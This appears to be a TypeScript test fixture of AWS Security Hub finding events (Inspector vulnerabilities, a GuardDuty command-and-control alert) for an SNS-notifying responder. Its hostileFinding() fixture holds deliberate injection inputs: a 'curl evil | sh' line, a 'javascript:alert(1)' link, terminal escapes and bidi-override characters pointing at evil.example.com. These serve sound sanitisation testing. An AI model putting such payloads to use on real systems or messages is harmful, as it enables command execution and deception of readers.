/**
 * Realistic "Security Hub Findings - Imported" events (classic ASFF, as EventBridge delivers them:
 * one finding per event, dates as ISO strings) for the responder's tests.
 */
import type {
  Finding,
  IdentifiedFinding,
  ImportedEvent
} from '../../src/responder-lambda/finding.js'

export const ACCOUNT = '123456789012'
export const REGION = 'us-east-1'
export const TOPIC_ARN = `arn:aws:sns:${REGION}:${ACCOUNT}:inspector-gate-responder`
export const INSPECTOR = `arn:aws:securityhub:${REGION}::product/aws/inspector`
const GUARDDUTY = `arn:aws:securityhub:${REGION}::product/aws/guardduty`
export const IMPORTED_AT = '2025-11-03T09:14:30Z'
/** ASFF carries many more fields than the responder reads; fixtures keep them for realism. */
const asFinding = (value: object): IdentifiedFinding => value as IdentifiedFinding

const DIGEST = 'sha256:4f1c9d7e2b3a5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9012a3b4c5d6'

/** Inspector: a package vulnerability in an ECR image. */
export function inspectorImageFinding(): IdentifiedFinding {
  return asFinding({
    SchemaVersion: '2018-10-08',
    Id: `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/0c4d2a1e9b7f6e5d4c3b2a1908f7e6d5`,
    ProductArn: INSPECTOR,
    ProductName: 'Inspector',
    CompanyName: 'Amazon',
    Region: REGION,
    GeneratorId: 'AWSInspector',
    AwsAccountId: ACCOUNT,
    Types: ['Software and Configuration Checks/Vulnerabilities/CVE'],
    FirstObservedAt: '2025-11-03T09:14:27.120Z',
    LastObservedAt: '2025-11-03T09:14:27.120Z',
    CreatedAt: '2025-11-03T09:14:27.120Z',
    UpdatedAt: '2025-11-03T09:14:27.120Z',
    Severity: { Label: 'HIGH', Normalized: 70, Original: 'HIGH' },
    Title: 'CVE-2024-45490 - libexpat1',
    Description:
      'An issue was discovered in libexpat before 2.6.3. xmlparse.c does not reject a negative length for XML_ParseBuffer.',
    Remediation: { Recommendation: { Text: 'None Provided' } },
    ProductFields: {
      'aws/inspector/ProductVersion': '2',
      'aws/inspector/FindingStatus': 'ACTIVE',
      'aws/securityhub/ProductName': 'Inspector'
    },
    Resources: [
      {
        Type: 'AwsEcrContainerImage',
        Id: `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/shop/api/${DIGEST}`,
        Partition: 'aws',
        Region: REGION,
        Details: {
          AwsEcrContainerImage: {
            RegistryId: ACCOUNT,
            RepositoryName: 'shop/api',
            Architecture: 'amd64',
            ImageDigest: DIGEST,
            ImageTags: ['1.4.2']
          }
        }
      }
    ],
    WorkflowState: 'NEW',
    Workflow: { Status: 'NEW' },
    RecordState: 'ACTIVE',
    Vulnerabilities: [
      {
        Id: 'CVE-2024-45490',
        VulnerablePackages: [
          {
            Name: 'libexpat1',
            Version: '2.5.0',
            Release: '1',
            PackageManager: 'OS',
            FixedInVersion: '0:2.5.0-1+deb12u1'
          }
        ],
        Cvss: [{ Version: '3.1', BaseScore: 7.5, Source: 'NVD' }],
        FixAvailable: 'YES',
        ExploitAvailable: 'NO'
      }
    ]
  })
}

/** Inspector: a CRITICAL package vulnerability on an EC2 instance in eu-west-1. */
export function inspectorInstanceFinding(): IdentifiedFinding {
  const region = 'eu-west-1'
  return asFinding({
    ...inspectorImageFinding(),
    Id: `arn:aws:inspector2:${region}:${ACCOUNT}:finding/9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b`,
    ProductArn: `arn:aws:securityhub:${region}::product/aws/inspector`,
    Region: region,
    UpdatedAt: '2025-11-04T10:00:00.000Z',
    Severity: { Label: 'CRITICAL' },
    Title: 'CVE-2024-6387 - openssh-server',
    Remediation: {
      Recommendation: {
        Text: 'Update openssh-server to 1:9.2p1-2+deb12u3',
        Url: 'https://nvd.nist.gov/vuln/detail/CVE-2024-6387'
      }
    },
    Resources: [
      {
        Type: 'AwsEc2Instance',
        Id: `arn:aws:ec2:${region}:${ACCOUNT}:instance/i-0a1b2c3d4e5f60718`,
        Partition: 'aws',
        Region: region
      }
    ],
    Vulnerabilities: [
      {
        Id: 'CVE-2024-6387',
        VulnerablePackages: [
          {
            Name: 'openssh-server',
            Version: '1:9.2p1-2+deb12u2',
            FixedInVersion: '1:9.2p1-2+deb12u3'
          }
        ]
      }
    ]
  })
}

/** GuardDuty: an instance talking to a command-and-control server (no vulnerability). */
export function guardDutyInstanceFinding(): IdentifiedFinding {
  return asFinding({
    SchemaVersion: '2018-10-08',
    Id: `arn:aws:guardduty:${REGION}:${ACCOUNT}:detector/12abc34d567e8fa901bc2d34e56789f0/finding/7ac5f0e5b2d8a1c3e4f5a6b7c8d9e0f1`,
    ProductArn: GUARDDUTY,
    ProductName: 'GuardDuty',
    CompanyName: 'Amazon',
    Region: REGION,
    GeneratorId: `arn:aws:guardduty:${REGION}:${ACCOUNT}:detector/12abc34d567e8fa901bc2d34e56789f0`,
    AwsAccountId: ACCOUNT,
    Types: ['TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS'],
    FirstObservedAt: '2025-11-03T08:01:12.000Z',
    LastObservedAt: '2025-11-03T09:01:12.000Z',
    CreatedAt: '2025-11-03T08:05:40.000Z',
    UpdatedAt: '2025-11-03T09:05:40.000Z',
    Severity: { Label: 'HIGH', Normalized: 80, Product: 8 },
    Title: 'Command and Control server domain name queried by EC2 instance i-0f9e8d7c6b5a40312.',
    Description:
      'EC2 instance i-0f9e8d7c6b5a40312 is querying a domain name associated with a known Command & Control server.',
    Resources: [
      {
        Type: 'AwsEc2Instance',
        Id: `arn:aws:ec2:${REGION}:${ACCOUNT}:instance/i-0f9e8d7c6b5a40312`,
        Partition: 'aws',
        Region: REGION,
        Details: { AwsEc2Instance: { Type: 't3.micro', ImageId: 'ami-0abcdef1234567890' } }
      }
    ],
    Workflow: { Status: 'NEW' },
    RecordState: 'ACTIVE'
  })
}

/** A finding someone (or the responder) already moved to NOTIFIED. */
export function notifiedFinding(): IdentifiedFinding {
  return asFinding({
    ...inspectorImageFinding(),
    Id: `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/notified00000000000000000000000`,
    Workflow: { Status: 'NOTIFIED' },
    Note: {
      Text: 'The inspector-gate responder notified this finding through SNS at 2025-11-03T09:14:31.000Z.',
      UpdatedBy: 'inspector-gate-responder',
      UpdatedAt: '2025-11-03T09:14:31.000Z'
    }
  })
}

/** Provider text written to mislead a reader: forged lines, hidden characters, a hostile link. */
export function hostileFinding(): IdentifiedFinding {
  return asFinding({
    ...inspectorImageFinding(),
    Id: `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/hostile0000000000000000000000000`,
    Region: 'evil.example.com/#',
    Severity: { Label: 'CRITICAL\nSeverity: LOW' },
    Title: `Harmless\r\nRemediation URL: https://evil.example.com/\u0007\u001b[31m\u202eTXT.EXE ${'A'.repeat(500)}`,
    Description: 'line one\n\nSecurity Hub: https://evil.example.com/\u200b\u2066hidden\u2069',
    Remediation: {
      Recommendation: { Text: 'Run\tthis:\u0000 curl evil | sh', Url: 'javascript:alert(1)' }
    },
    Vulnerabilities: [{ Id: 'CVE-2024-0001\u0085\u2028ünïcode' }]
  })
}

export function importedEvent(
  findings: unknown[],
  overrides: Partial<ImportedEvent> = {}
): ImportedEvent {
  return {
    version: '0',
    id: '3d1b6c7e-90a2-4f5e-b8c1-2d3e4f5a6b7c',
    'detail-type': 'Security Hub Findings - Imported',
    source: 'aws.securityhub',
    account: ACCOUNT,
    time: IMPORTED_AT,
    region: REGION,
    resources: findings.map(
      (f) => `${(f as Finding | null)?.ProductArn}/${(f as Finding | null)?.Id}`
    ),
    detail: { findings },
    ...overrides
  } as ImportedEvent
}
